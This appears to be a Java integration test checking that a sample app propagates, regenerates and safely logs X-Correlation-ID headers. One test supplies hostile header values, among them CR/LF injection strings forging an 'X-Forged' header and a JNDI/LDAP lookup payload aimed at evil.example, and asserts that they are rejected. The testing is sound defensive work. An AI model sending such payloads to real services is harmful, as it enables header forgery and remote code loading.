package dev.clambake.sample;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import org.springframework.boot.json.JsonParserFactory;

import dev.clambake.testsupport.RawHttp;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Correlation seen from outside: the sample app jar with JSON logs, calling a real upstream
 * HTTP server on loopback through {@code /api/upstream}.
 */
class CorrelationIT {

	private static final String CONTROLLER = "dev.clambake.sample.UpstreamController";

	private static final String AUDIT = "dev.clambake.sample.UpstreamAudit";

	@TempDir
	static Path directory;

	private static HttpServer upstream;

	private static ExecutorService upstreamThreads;

	private static final Queue<String> receivedIds = new ConcurrentLinkedQueue<>();

	private static SampleAppProcess app;

	private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

	@BeforeAll
	static void start() throws IOException {
		upstream = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
		upstreamThreads = Executors.newFixedThreadPool(32);
		upstream.setExecutor(upstreamThreads);
		upstream.createContext("/echo", (exchange) -> {
			String received = String.valueOf(exchange.getRequestHeaders().getFirst("X-Correlation-ID"));
			receivedIds.add(received);
			byte[] body = received.getBytes(StandardCharsets.UTF_8);
			exchange.sendResponseHeaders(200, body.length);
			try (OutputStream out = exchange.getResponseBody()) {
				out.write(body);
			}
		});
		upstream.start();
		app = SampleAppProcess.in(directory)
			.arg("--sample.upstream.url=http://127.0.0.1:" + upstream.getAddress().getPort() + "/echo")
			.arg("--clambake.logging.format=json")
			.arg("--server.max-http-request-header-size=64KB")
			.arg("--logging.level.dev.clambake.correlation=debug")
			.startAndAwaitReady();
	}

	@AfterAll
	static void stop() throws InterruptedException {
		if (app != null) {
			app.close();
		}
		if (upstream != null) {
			upstream.stop(0);
			upstreamThreads.shutdownNow();
		}
	}

	@Test
	void upstreamEveryLogLineAndTheResponseCarryTheInboundId() throws Exception {
		HttpResponse<String> response = get("/api/upstream", "X-Correlation-ID", "it-single-1");
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().firstValue("X-Correlation-ID")).hasValue("it-single-1");
		assertThat(receivedIds).contains("it-single-1");
		assertThat(json(response.body())).containsEntry("status", 200).containsEntry("body", "it-single-1");
		awaitRequestLines(1);
		List<Map<String, Object>> lines = requestLines().stream()
			.filter((line) -> line.toString().contains("it-single-1"))
			.toList();
		assertThat(lines).extracting((line) -> line.get("logger_name")).containsExactlyInAnyOrder(CONTROLLER, AUDIT);
		assertThat(lines).allSatisfy((line) -> assertThat(line).containsEntry("correlationId", "it-single-1"));
		// The async step ran on Boot's task executor, not on the request thread
		assertThat(lines).extracting((line) -> line.get("thread_name")).doesNotHaveDuplicates();
	}

	@Test
	void requestIdIsTheFallbackAndAMissingIdIsGenerated() throws Exception {
		HttpResponse<String> fallback = get("/api/hello", "X-Request-ID", "it-request-id");
		assertThat(fallback.headers().firstValue("X-Correlation-ID")).hasValue("it-request-id");
		HttpResponse<String> none = this.http.send(HttpRequest.newBuilder(uri("/api/upstream")).build(),
				HttpResponse.BodyHandlers.ofString());
		String generated = none.headers().firstValue("X-Correlation-ID").orElseThrow();
		assertThat(generated).matches("[0-9a-f]{32}");
		assertThat(json(none.body())).containsEntry("body", generated);
	}

	@Test
	void concurrentRequestsEachLogOnlyTheirOwnId() throws Exception {
		int requests = 200;
		List<CompletableFuture<HttpResponse<String>>> responses = new ArrayList<>();
		for (int i = 0; i < requests; i++) {
			HttpRequest request = HttpRequest.newBuilder(uri("/api/upstream"))
				.header("X-Correlation-ID", "it-many-" + i)
				.timeout(Duration.ofSeconds(60))
				.build();
			responses.add(this.http.sendAsync(request, HttpResponse.BodyHandlers.ofString()));
		}
		for (int i = 0; i < requests; i++) {
			HttpResponse<String> response = responses.get(i).get();
			assertThat(response.statusCode()).isEqualTo(200);
			assertThat(response.headers().firstValue("X-Correlation-ID")).hasValue("it-many-" + i);
			// The upstream saw this request's id, taken from the request thread's MDC
			assertThat(json(response.body())).containsEntry("body", "it-many-" + i);
		}
		Pattern many = Pattern.compile("it-many-\\d+");
		awaitLines((lines) -> lines.stream().filter((line) -> many.matcher(line.toString()).find()).count() >= 2L
				* requests);
		Map<String, List<String>> loggersById = new LinkedHashMap<>();
		for (Map<String, Object> line : requestLines()) {
			Object id = line.get("correlationId");
			if (id == null || !id.toString().startsWith("it-many-")) {
				assertThat(line.toString()).doesNotContainPattern(many.pattern());
				continue;
			}
			String message = (String) line.get("message");
			if (AUDIT.equals(line.get("logger_name"))) {
				// The async line names the upstream's answer: the id it received for this request
				Matcher answered = many.matcher(message);
				assertThat(answered.find()).isTrue();
				assertThat(answered.group()).isEqualTo(id);
			}
			loggersById.computeIfAbsent(id.toString(), (key) -> new ArrayList<>())
				.add((String) line.get("logger_name"));
		}
		assertThat(loggersById).hasSize(requests);
		assertThat(loggersById.values())
			.allSatisfy((loggers) -> assertThat(loggers).containsExactlyInAnyOrder(CONTROLLER, AUDIT));
	}

	@Test
	void hostileHeadersAreReplacedNeverEchoedNorLogged() throws Exception {
		Map<String, byte[]> hostile = new LinkedHashMap<>();
		hostile.put("folded CR/LF", "abc\r\n X-Forged: yes".getBytes(StandardCharsets.ISO_8859_1));
		hostile.put("encoded CR/LF", "abc%0d%0aX-Forged:%20yes".getBytes(StandardCharsets.ISO_8859_1));
		hostile.put("10 KB", "b".repeat(10 * 1024).getBytes(StandardCharsets.ISO_8859_1));
		hostile.put("non-ASCII", "caf\u00e9-\u4e2d\u6587".getBytes(StandardCharsets.UTF_8));
		hostile.put("empty", new byte[0]);
		hostile.put("quotes", "\"quoted\"".getBytes(StandardCharsets.ISO_8859_1));
		hostile.put("jndi", "${jndi:ldap://evil.example/a}".getBytes(StandardCharsets.ISO_8859_1));
		for (Map.Entry<String, byte[]> entry : hostile.entrySet()) {
			String head = rawGet("/api/upstream", entry.getValue());
			assertThat(head).as(entry.getKey()).startsWith("HTTP/1.1 200");
			Matcher id = Pattern.compile("(?im)^X-Correlation-ID: (.*)$").matcher(head);
			assertThat(id.find()).as(entry.getKey()).isTrue();
			assertThat(id.group(1)).as(entry.getKey()).matches("[0-9a-f]{32}");
			assertThat(head.lines().skip(1)).as(entry.getKey())
				.allMatch((line) -> line.matches("[A-Za-z0-9-]+: [^\r\n]*"))
				.noneMatch((line) -> line.startsWith("X-Forged"));
			String generated = id.group(1);
			assertThat(receivedIds).as(entry.getKey()).contains(generated);
		}
		// Refused by Tomcat itself, before any application code
		String refused = rawGet("/api/upstream", "abc\rX-Forged: yes".getBytes(StandardCharsets.ISO_8859_1));
		assertThat(refused).startsWith("HTTP/1.1 400").doesNotContainIgnoringCase("X-Correlation-ID")
			.doesNotContain("X-Forged");
		app.awaitOutput((output) -> output.split("Replaced invalid X-Correlation-ID header", -1).length > 6,
				Duration.ofSeconds(10));
		String output = app.output();
		assertThat(output).doesNotContain("${jndi")
			.doesNotContain("\"quoted\"")
			.doesNotContain("b".repeat(64))
			.doesNotContain("abc X-Forged: yes")
			.doesNotContain("abc\r")
			.doesNotContain("caf\u00e9")
			.doesNotContain(new String("caf\u00e9".getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1))
			.doesNotContain("%0d%0a");
		// Whatever was logged about them (Tomcat names the line it refused), no entry was forged
		assertThat(output.lines().filter((line) -> !line.isBlank()))
			.allSatisfy((line) -> assertThat(json(line)).containsKeys("@timestamp", "message"));
		assertThat(receivedIds).noneMatch((received) -> received.contains("jndi") || received.contains("Forged"));
	}

	@Test
	void everyConsoleLineIsJson() throws Exception {
		get("/api/upstream", "X-Correlation-ID", "it-json-1");
		awaitLines((lines) -> lines.stream().anyMatch((line) -> line.toString().contains("it-json-1")));
		List<String> lines = app.output().lines().filter((line) -> !line.isBlank()).toList();
		assertThat(lines).hasSizeGreaterThan(5);
		for (String line : lines) {
			assertThat(json(line)).as(line)
				.containsKeys("@timestamp", "level", "logger_name", "thread_name", "message")
				.containsEntry("service_name", "clambake-sample")
				.containsEntry("environment", "development");
		}
	}

	private void awaitRequestLines(int atLeastAuditLines) {
		awaitLines((lines) -> lines.stream().filter((line) -> AUDIT.equals(line.get("logger_name"))).count()
				>= atLeastAuditLines);
	}

	private void awaitLines(java.util.function.Predicate<List<Map<String, Object>>> condition) {
		app.awaitOutput((output) -> condition.test(requestLines(output)), Duration.ofSeconds(30));
	}

	private static List<Map<String, Object>> requestLines() {
		return requestLines(app.output());
	}

	private static List<Map<String, Object>> requestLines(String output) {
		List<Map<String, Object>> lines = new ArrayList<>();
		for (String line : output.lines().toList()) {
			if (line.contains(CONTROLLER) || line.contains(AUDIT)) {
				lines.add(json(line));
			}
		}
		return lines;
	}

	private static Map<String, Object> json(String text) {
		return JsonParserFactory.getJsonParser().parseMap(text);
	}

	private HttpResponse<String> get(String path, String header, String value) throws Exception {
		HttpRequest request = HttpRequest.newBuilder(uri(path)).header(header, value).build();
		return this.http.send(request, HttpResponse.BodyHandlers.ofString());
	}

	private URI uri(String path) {
		return URI.create("http://127.0.0.1:" + app.port() + path);
	}

	private String rawGet(String path, byte[] value) throws IOException {
		return RawHttp.get(app.port(), path, "X-Correlation-ID", value, Duration.ofSeconds(30));
	}

}
